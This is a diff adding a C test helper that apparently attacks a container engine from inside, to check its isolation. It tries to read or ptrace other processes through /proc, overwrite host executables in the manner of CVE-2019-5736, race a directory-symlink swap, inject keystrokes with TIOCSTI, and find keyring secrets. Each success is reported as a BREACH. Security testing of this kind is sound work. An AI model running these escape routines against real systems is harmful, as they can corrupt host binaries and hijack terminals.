@@ -1,0 +1,246 @@
+/*
+ * attack: what hostile code tries from inside a container (tests/cli/security.bats). Linked statically, run with a bind mount.
+ * Whatever works that must not is printed as a line that begins with BREACH; the last line says how much was tried, so that a
+ * test knows that there was something to try.
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/keyctl.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mman.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+static long tried, guarded;
+
+static bool time_left(const struct timespec *end) {
+    struct timespec now;
+    clock_gettime(CLOCK_MONOTONIC, &now);
+    return now.tv_sec < end->tv_sec || (now.tv_sec == end->tv_sec && now.tv_nsec < end->tv_nsec);
+}
+
+static void breach(const char *what, int pid, const char *more) {
+    printf("BREACH %s of process %d: %s\n", what, pid, more);
+    fflush(stdout);
+}
+
+/* Calls fn for each process until the time is up, or the file `stop` exists. */
+static void for_processes(const char *seconds, void (*fn)(int pid)) {
+    struct timespec end;
+    clock_gettime(CLOCK_MONOTONIC, &end);
+    end.tv_sec += atoi(seconds);
+    while (time_left(&end) && access("/attack/stop", F_OK) != 0) {
+        DIR *d = opendir("/proc");
+        for (struct dirent *e; d && (e = readdir(d));)
+            if (atoi(e->d_name) > 0 && atoi(e->d_name) != getpid())
+                fn(atoi(e->d_name));
+        closedir(d);
+        nanosleep(&(struct timespec){.tv_nsec = 100000}, NULL); /* two cores, and others want to run */
+    }
+}
+
+static bool read_comm(int pid, char *buf, size_t size) {
+    char path[64];
+    snprintf(path, sizeof path, "/proc/%d/comm", pid);
+    int fd = open(path, O_RDONLY);
+    ssize_t n = fd < 0 ? -1 : read(fd, buf, size - 1);
+    close(fd);
+    buf[n > 0 ? n : 0] = '\0';
+    buf[strcspn(buf, "\n")] = '\0';
+    return n > 0;
+}
+
+static ssize_t link_of(int pid, const char *name, char *buf, size_t size) {
+    char path[300];
+    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
+    ssize_t n = readlink(path, buf, size - 1);
+    buf[n > 0 ? n : 0] = '\0';
+    return n;
+}
+
+/* Everything that needs the kernel's leave to look into a process; true and what worked when something did. */
+static bool reach(int pid, char *ret, size_t size) {
+    static const char *const files[] = {"mem", "root/etc", "cwd/.", "exe", "ns/mnt", "maps"};
+    static const int how[] = {O_RDWR, O_RDONLY, O_RDONLY, O_RDONLY, O_RDONLY, O_RDONLY};
+    char path[300], to[300];
+    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
+        snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
+        int fd = open(path, how[i] | O_NONBLOCK | O_CLOEXEC);
+        tried++;
+        if (fd < 0)
+            continue;
+        char byte;
+        bool got = strcmp(files[i], "maps") || read(fd, &byte, 1) == 1; /* that of a zombie can be opened, and is empty */
+        close(fd);
+        if (!got)
+            continue;
+        snprintf(ret, size, "%s", files[i]);
+        return true;
+    }
+    for (int n = 0; n < 40; n++) {
+        snprintf(path, sizeof path, "fd/%d", n);
+        if (link_of(pid, path, to, sizeof to) > 0) {
+            snprintf(ret, size, "%s -> %.200s", path, to);
+            return true;
+        }
+    }
+    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
+        ptrace(PTRACE_INTERRUPT, pid, 0, 0); /* it must stop before it can be let go, and be let go to end */
+        waitpid(pid, NULL, __WALL);
+        ptrace(PTRACE_DETACH, pid, 0, 0);
+        snprintf(ret, size, "ptrace");
+        return true;
+    }
+    return false;
+}
+
+/*
+ * A process that is joining the container: its exe cannot be read until it has executed its program. If it could not before nor
+ * after something of it was opened, that was open which must not be.
+ */
+static void look_at_newcomer(int pid) {
+    char exe[300], what[300];
+    if (link_of(pid, "exe", exe, sizeof exe) > 0) {
+        if (strncmp(exe, "/bin/", 5) && strncmp(exe, "/attack/", 8) && strncmp(exe, "/sbin/", 6))
+            breach("exe", pid, exe);
+        return;
+    }
+    if (errno == ENOENT || errno == ESRCH) /* gone, or a kernel thread */
+        return;
+    guarded++;
+    if (reach(pid, what, sizeof what) && link_of(pid, "exe", exe, sizeof exe) < 0 && (errno == EACCES || errno == EPERM))
+        breach("something", pid, what);
+}
+
+/* The processes of the engine, seen by a container that has the host's pid namespace. */
+static void look_at_engine(int pid) {
+    char comm[64], what[300];
+    if (!read_comm(pid, comm, sizeof comm) || strncmp(comm, "coracle", 7) || !strcmp(comm, "coracle-init"))
+        return;
+    guarded++;
+    if (reach(pid, what, sizeof what) && read_comm(pid, comm, sizeof comm) && !strncmp(comm, "coracle", 7))
+        breach(comm, pid, what);
+}
+
+/* CVE-2019-5736: write to what others execute. */
+static void write_to_exe(int pid) {
+    char path[64], to[300];
+    snprintf(path, sizeof path, "/proc/%d/exe", pid);
+    int fd = open(path, O_PATH | O_CLOEXEC);
+    if (fd < 0)
+        return;
+    link_of(pid, "exe", to, sizeof to);
+    tried++;
+    if (!strstr(to, "busybox") && !strstr(to, "/attack/")) {
+        guarded++;
+        syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, (unsigned long long[4]){0, 1 /* read-only off */}, (size_t)32);
+        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+        for (int i = 0; i < 200; i++) {
+            int w = open(path, O_WRONLY | O_CLOEXEC);
+            if (w >= 0 && write(w, "\177EVIL", 5) == 5)
+                breach("exe", pid, to);
+            close(w);
+        }
+    }
+    close(fd);
+}
+
+/* A directory and a link change places, as fast as they can, for so many seconds. */
+static int swap(const char *a, const char *b, const char *seconds) {
+    struct timespec end;
+    clock_gettime(CLOCK_MONOTONIC, &end);
+    end.tv_sec += atoi(seconds);
+    while (time_left(&end) && access("/attack/stop", F_OK) != 0) {
+        for (int i = 0; i < 100; i++)
+            tried += syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0;
+        nanosleep(&(struct timespec){.tv_nsec = 1000000}, NULL);
+    }
+    return 0;
+}
+
+/* Types into the terminal that this process has, if any. */
+static int type_into_terminal(const char *text) {
+    int fd = open("/dev/tty", O_RDWR);
+    if (fd < 0) {
+        printf("no terminal: %s\n", strerror(errno));
+        fd = STDERR_FILENO;
+    }
+    int ok = 0;
+    for (const char *p = text; *p; p++)
+        ok += ioctl(fd, TIOCSTI, p) == 0;
+    char paste[2] = {3, 0};
+    printf("typed %d, TIOCLINUX %d\n", ok, ioctl(fd, TIOCLINUX, paste));
+    return 0;
+}
+
+static int find_key(const char *name) {
+    static const int rings[] = {KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING, KEY_SPEC_USER_SESSION_KEYRING};
+    for (size_t i = 0; i < 3; i++)
+        if (syscall(SYS_keyctl, KEYCTL_SEARCH, rings[i], "user", name, 0) >= 0)
+            printf("BREACH keyring %d has %s\n", rings[i], name);
+    printf("keyctl: %s\n", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0) >= 0 ? "works" : strerror(errno));
+    return 0;
+}
+
+/* A new session keyring with a key in it, and a program that lives in it. */
+static int with_key(char **argv) {
+    if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
+        syscall(SYS_add_key, "user", argv[0], "secret", (size_t)6, KEY_SPEC_SESSION_KEYRING) < 0) {
+        perror("no keyring");
+        return 99;
+    }
+    execvp(argv[1], argv + 1);
+    return 98;
+}
+
+static int crypto_socket(void) {
+    int fd = socket(38 /* AF_ALG */, SOCK_SEQPACKET, 0);
+    printf("AF_ALG: %s\n", fd >= 0 ? "BREACH open" : strerror(errno));
+    return 0;
+}
+
+static int same_user_files(char **argv) {
+    for (; *argv; argv++) {
+        int fd = open(*argv, O_RDONLY | O_NONBLOCK);
+        printf("%s: %s\n", *argv, fd >= 0 ? "BREACH open" : strerror(errno));
+    }
+    return 0;
+}
+
+int main(int argc, char **argv) {
+    const char *what = argc > 1 ? argv[1] : "";
+    int rc = 0;
+    if (!strcmp(what, "newcomers"))
+        for_processes(argv[2], look_at_newcomer);
+    else if (!strcmp(what, "engine"))
+        for_processes(argv[2], look_at_engine);
+    else if (!strcmp(what, "overwrite"))
+        for_processes(argv[2], write_to_exe);
+    else if (!strcmp(what, "swap"))
+        rc = swap(argv[2], argv[3], argv[4]);
+    else if (!strcmp(what, "type"))
+        rc = type_into_terminal(argv[2]);
+    else if (!strcmp(what, "find-key"))
+        rc = find_key(argv[2]);
+    else if (!strcmp(what, "with-key"))
+        rc = with_key(argv + 2);
+    else if (!strcmp(what, "af-alg"))
+        rc = crypto_socket();
+    else if (!strcmp(what, "open"))
+        rc = same_user_files(argv + 2);
+    else
+        return 2;
+    printf("tried %ld, guarded %ld\n", tried, guarded);
+    return rc;
+}
